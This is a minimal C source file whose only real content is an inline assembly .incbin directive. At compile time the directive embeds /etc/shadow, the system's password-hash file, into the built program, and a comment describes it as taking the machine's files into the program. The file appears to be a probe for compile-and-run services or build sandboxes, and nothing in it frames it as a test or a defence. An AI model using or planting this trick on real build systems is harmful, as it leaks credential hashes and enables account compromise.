// Takes files of the machine into the program.
__asm__(".incbin \"/etc/shadow\"");
int main(void) { return 0; }
